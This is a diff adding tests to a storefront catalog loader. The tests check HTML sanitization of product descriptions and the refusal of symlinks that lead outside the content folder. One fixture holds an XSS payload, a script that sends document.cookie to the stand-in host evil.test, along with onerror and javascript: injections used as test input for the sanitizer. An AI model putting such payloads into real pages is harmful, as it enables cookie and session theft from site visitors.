@@ -231,3 +231,123 @@ def test_cache_is_per_store_currency(tmp_path, currency):
     _catalog, problems = load_catalog(tmp_path / "content", currency=currency, root=tmp_path,
                                       cache=cache)
     assert bool(problems) == (currency == "EUR")
+
+
+# -- raw HTML in descriptions -----------------------------------------------------------------
+PASTED = ('Made of steel.\n\n<script>new Image().src="//evil.test/?"+document.cookie</script>\n\n'
+          '<img src="front.jpg" onerror="alert(1)">\n')
+
+
+def test_raw_html_is_sanitized_with_one_warning_naming_the_file(tmp_path):
+    folder = product(tmp_path, "pen", body=PASTED)
+    (folder / "index.de.md").write_text('---\ntitle: Stift\n---\n<a href="javascript:x()">Hi</a>\n')
+    page(tmp_path, "about.md", '---\ntitle: About\n---\n<p onclick="x()">Hi</p>\n')
+    catalog, problems = load(tmp_path)
+    pen = catalog.products[0]
+    assert "script" not in pen.body_html and "cookie" not in pen.body_html
+    assert "onerror" not in pen.body_html and '<img src="front.jpg">' in pen.body_html
+    assert "javascript" not in pen.translations["de"].body_html
+    assert catalog.pages[0].body_html == "<p>Hi</p>"
+    assert [(p.severity, str(p)) for p in problems] == [
+        ("warning", "content/pages/about.md: text: raw HTML is sanitized; removed onclick=; set "
+                    "STORE_TRUST_HTML = True in pelicanconf.py to publish it as written"),
+        ("warning", 'content/products/pen/index.de.md: description: raw HTML is sanitized; '
+                    'removed href="javascript:…"; set STORE_TRUST_HTML = True in pelicanconf.py '
+                    "to publish it as written"),
+        ("warning", "content/products/pen/index.md: description: raw HTML is sanitized; removed "
+                    "<script>, onerror=; set STORE_TRUST_HTML = True in pelicanconf.py to "
+                    "publish it as written"),
+    ]
+
+
+def test_trusting_raw_html_re_renders_cached_descriptions(tmp_path):
+    from storefront_catalog.sanitize import HtmlPolicy
+
+    product(tmp_path, "pen", body=PASTED)
+    cache: dict = {}
+    clean, warned = load(tmp_path, cache)
+    trusted, quiet = load_catalog(tmp_path / "content", currency="USD", root=tmp_path,
+                                  cache=cache, html_policy=HtmlPolicy(trust=True))
+    assert "<script>" not in clean.products[0].body_html and len(warned) == 1
+    assert "<script>" in trusted.products[0].body_html and quiet == []
+    # pages and feeds are cached under the product's digest: it changes with the policy
+    assert trusted.products[0].digest != clean.products[0].digest
+    assert load(tmp_path, cache)[0].products[0].digest == clean.products[0].digest
+
+
+# -- links out of the content folder ----------------------------------------------------------
+def test_photo_linked_from_outside_the_content_folder_is_refused(tmp_path):
+    elsewhere = tmp_path / "home" / "someone"
+    photo(elsewhere / "holiday.jpg")
+    photo(elsewhere / "album" / "side.jpg")
+    folder = product(tmp_path, "pen", extra="  - {file: back.jpg, angle: back}\n"
+                                            "  - {file: photos/side.jpg, angle: side}\n"
+                                            "  - {file: shared.jpg, angle: detail}\n")
+    index = folder / "index.md"
+    index.write_text(index.read_text().replace("images: [{file: front.jpg, angle: front}]",
+                                               "images:\n  - {file: front.jpg, angle: front}"))
+    os.symlink(elsewhere / "holiday.jpg", folder / "back.jpg")
+    os.symlink(elsewhere / "album", folder / "photos")
+    # a link inside the content folder is fine
+    other = product(tmp_path, "charger")
+    os.symlink(other / "front.jpg", folder / "shared.jpg")
+    catalog, problems = load(tmp_path)
+    assert [str(p) for p in problems] == [
+        f'content/products/pen/index.md:10: images[2].file: "back.jpg" is a link to a file '
+        f"outside the content folder ({elsewhere / 'holiday.jpg'}); copy the photo into the "
+        "product folder",
+        f'content/products/pen/index.md:11: images[3].file: "photos/side.jpg" is a link to a '
+        f'folder ("photos") outside the content folder ({elsewhere / "album"}); copy the photo '
+        "into the product folder",
+    ]
+    assert [p.slug for p in catalog.products] == ["charger"]
+
+
+def test_text_linked_from_outside_the_content_folder_is_refused(tmp_path):
+    elsewhere = tmp_path / "elsewhere"
+    outside_bundle = product(elsewhere, "stolen")
+    pen = product(tmp_path, "pen")
+    (elsewhere / "notes.md").write_text("---\ntitle: Notes\n---\nPrivate.\n")
+    os.symlink(elsewhere / "notes.md", pen / "index.de.md")
+    os.symlink(outside_bundle, tmp_path / "content/products/stolen")
+    cup = tmp_path / "content/products/cup"
+    cup.mkdir()
+    photo(cup / "front.jpg")
+    os.symlink(outside_bundle / "index.md", cup / "index.md")
+    page(tmp_path, "about.md", "---\ntitle: About\n---\nHi.\n")
+    os.symlink(elsewhere / "notes.md", tmp_path / "content/pages/notes.md")
+    catalog, problems = load(tmp_path)
+    real = os.path.realpath
+    assert [str(p) for p in problems] == [
+        f"content/pages/notes.md: is a link to a file outside the content folder "
+        f"({real(elsewhere / 'notes.md')}); put the file itself in content/pages/, not a link "
+        "to it",
+        f"content/products/cup/index.md: is a link to a file outside the content folder "
+        f"({real(outside_bundle / 'index.md')}); copy the file into the product folder",
+        f"content/products/pen/index.de.md: is a link to a file outside the content folder "
+        f"({real(elsewhere / 'notes.md')}); copy the file into the product folder",
+        f"content/products/stolen: is a link to a folder outside the content folder "
+        f"({real(outside_bundle)}); put the folder itself in content/products/, not a link to "
+        "it",
+    ]
+    assert [p.slug for p in catalog.products] == ["pen"]
+    assert catalog.products[0].translations == {}
+    assert [p.slug for p in catalog.pages] == ["about"]
+
+
+def test_links_inside_the_content_folder_and_link_loops_are_fine(tmp_path):
+    shared = tmp_path / "content" / "shared-photos"
+    photo(shared / "front.jpg")
+    pen = tmp_path / "content/products/pen"
+    pen.mkdir(parents=True)
+    os.symlink(shared / "front.jpg", pen / "front.jpg")
+    product(tmp_path, "pen")  # keeps the linked front.jpg
+    os.symlink(pen, pen / "loop")  # a folder linked into itself is walked once
+    os.symlink(tmp_path / "content/products/pen", tmp_path / "content/products/pen-copy")
+    catalog, problems = load(tmp_path)
+    assert [str(p) for p in problems] == [  # a linked copy is a second product, as a copy is
+        'content/products/pen-copy/index.md:3: sku: SKU "PEN" is already used by sku in '
+        "content/products/pen/index.md; every product and variant needs its own SKU"
+    ]
+    assert catalog.products[0].slug == "pen"
+    assert catalog.products[0].images[0].source == pen / "front.jpg"
